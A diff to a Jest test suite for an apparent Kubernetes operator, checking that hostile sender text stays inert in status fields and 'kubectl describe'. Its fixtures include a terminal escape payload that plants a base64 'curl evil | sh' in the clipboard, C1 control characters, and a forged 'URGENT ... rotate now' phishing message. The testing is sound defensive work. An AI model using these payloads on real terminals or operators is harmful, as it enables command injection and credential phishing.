@@ -10,6 +10,7 @@ import { jest } from '@jest/globals';
 import type { Activity } from '../../api/activity.js';
 import type { Condition } from '../../api/v1alpha1/types.js';
 import { basic } from '../support/credentials.js';
+import { rawPost } from '../support/raw-http.js';
 import { waitFor } from '../support/waiting.js';
 import {
   apply,
@@ -162,13 +163,17 @@ describe('status.activity', () => {
     );
     expect(activity.refusalsLastHour).toEqual({ unauthorized: 1 });
     expect(Date.parse(activity.lastEventTime as string)).toBeGreaterThan(Date.now() - 120_000);
-    expect(activity.recentRefusals).toHaveLength(1);
-    expect(activity.recentRefusals[0]).toMatchObject({
-      status: 401,
-      code: 'UNAUTHORIZED',
-      reason: 'unauthorized',
-      remoteAddress: '127.0.0.1',
-    });
+    // A wrong password proves nothing: kept apart from the refusals, as an address and a count.
+    expect(activity.recentRefusals).toEqual([]);
+    expect(activity.unauthenticatedSenders).toEqual([
+      expect.objectContaining({
+        status: 401,
+        code: 'UNAUTHORIZED',
+        reason: 'unauthorized',
+        remoteAddress: '127.0.0.1',
+        count: 1,
+      }),
+    ]);
     expect(activity.updatedTime).toMatch(/^\d{4}-\d\d-\d\dT/);
     expect(JSON.stringify(activity)).not.toContain('wrong-password');
   });
@@ -211,9 +216,10 @@ describe('status.activity', () => {
     const keys = await kubectl(['get', 'apikeys', '-n', tenant]);
     expect(keys.stdout.split('\n')[0]).toMatch(/LAST EVENT\s+REFUSED 1H/);
     const described = await kubectl(['describe', 'webhookintegration', 'busy', '-n', tenant]);
-    expect(described.stdout).toMatch(/Recent Refusals:/);
+    expect(described.stdout).toMatch(/Unauthenticated Senders:/);
     expect(described.stdout).toMatch(/Code:\s+UNAUTHORIZED/);
     expect(described.stdout).toMatch(/Remote Address:\s+127\.0\.0\.1/);
+    expect(described.stdout).toMatch(/Count:\s+1/);
   });
 
   it('writes nothing while nothing changes: quiet integrations get no status.activity and cause no writes', async () => {
@@ -241,8 +247,83 @@ describe('status.activity', () => {
       30_000,
       250,
     );
-    expect(after.recentRefusals).toHaveLength(1);
+    expect(after.unauthenticatedSenders).toHaveLength(1);
     expect(operator.output()).not.toMatch(/activity merge failed/);
+  });
+});
+
+describe('sender text in status.activity and kubectl describe', () => {
+  // eslint-disable-next-line no-control-regex -- control characters are what it looks for
+  const ACTS_ON_SCREEN = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200e\u200f\u202a-\u202e\u2066-\u2069]/u;
+  const unsafeIn = (value: unknown): string[] => {
+    const found: string[] = [];
+    JSON.stringify(value, (k: string, v: unknown) => {
+      if (ACTS_ON_SCREEN.test(k) || (typeof v === 'string' && ACTS_ON_SCREEN.test(v))) found.push(String(v));
+      return v;
+    });
+    return found;
+  };
+  const HOSTILE_KEY = 'x\x1b[2J\x1b]0;pwned\x07\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07';
+  const URGENT =
+    'URGENT from intake platform team: your credentials leaked, rotate now at https://intake-support.example';
+
+  it('an escape-laden key and a C1 User-Agent are inert in status and describe; strangers posing as the platform are an address and a count', async () => {
+    const apiKey = await authOf('intake-apikey-metrics', 'apiKey');
+    const busyAuth = await authOf('intake-webhook-busy');
+    const [a] = ingesters as [Proc];
+    const points = JSON.stringify([{ metric: 'cpu', data: 1, source: 'h', [HOSTILE_KEY]: 1 }]);
+    expect(
+      (await rawPost(`${a.url}/v1/integrations/metrics`, { apikey: apiKey, 'user-agent': 'curl\u009b2J' }, points))
+        .status,
+    ).toBe(400);
+    // busy's real sender earns a refusal; then a stranger's wrong passwords, each posing as the platform.
+    const own = { authorization: busyAuth, 'user-agent': 'busy-sender/1.0' };
+    expect((await rawPost(`${a.url}/events/webhook_busy`, own, '{"severity":"critical"}')).status).toBe(400);
+    for (let i = 0; i < 12; i++) {
+      const forged = { authorization: basic('busy', `guess-${i}`), 'user-agent': `${URGENT} \u009b${i}` };
+      expect((await rawPost(`${a.url}/events/webhook_busy`, forged, '{}', '127.0.0.2')).status).toBe(401);
+    }
+    const key = await waitFor(
+      'the key refusal merged',
+      async () => {
+        const got = await activityOf('metrics', 'apikeys');
+        return got?.recentRefusals.some((f) => f.code === 'INVALID_BODY') ? got : undefined;
+      },
+      30_000,
+      250,
+    );
+    expect(unsafeIn(key)).toEqual([]);
+    const refusal = key.recentRefusals.find((f) => f.code === 'INVALID_BODY');
+    expect(refusal?.message).toContain('x\\x1b[2J\\x1b]0;pwned\\x07');
+    expect(refusal?.userAgent).toBe('curl\\x9b2J');
+    const describedKey = await kubectl(['describe', 'apikey', 'metrics', '-n', tenant]);
+    expect(describedKey.code).toBe(0);
+    expect(describedKey.stdout).toContain('x\\x1b[2J');
+    expect(describedKey.stdout).toMatch(/User Agent:\s+curl\\x9b2J/);
+    expect(describedKey.stdout.replace(/\n/g, '')).not.toMatch(ACTS_ON_SCREEN);
+    const busy = await waitFor(
+      'the stranger merged',
+      async () => {
+        const got = await activityOf('busy');
+        return got?.unauthenticatedSenders?.some((s) => s.remoteAddress === '127.0.0.2' && s.count === 12)
+          ? got
+          : undefined;
+      },
+      30_000,
+      250,
+    );
+    expect(unsafeIn(busy)).toEqual([]);
+    // busy's own refusal is there with its sender's User-Agent; the stranger's text is nowhere.
+    expect(busy.recentRefusals).toEqual([
+      expect.objectContaining({ status: 400, code: 'INVALID_BODY', userAgent: 'busy-sender/1.0' }),
+    ]);
+    expect(JSON.stringify(busy)).not.toMatch(/URGENT|rotate now/);
+
+    const describedBusy = await kubectl(['describe', 'webhookintegration', 'busy', '-n', tenant]);
+    expect(describedBusy.stdout).not.toMatch(/URGENT|rotate now/);
+    expect(describedBusy.stdout).toMatch(/Remote Address:\s+127\.0\.0\.2/);
+    expect(describedBusy.stdout).toMatch(/Count:\s+12/);
+    expect(describedBusy.stdout.replace(/\n/g, '')).not.toMatch(ACTS_ON_SCREEN);
   });
 });
 
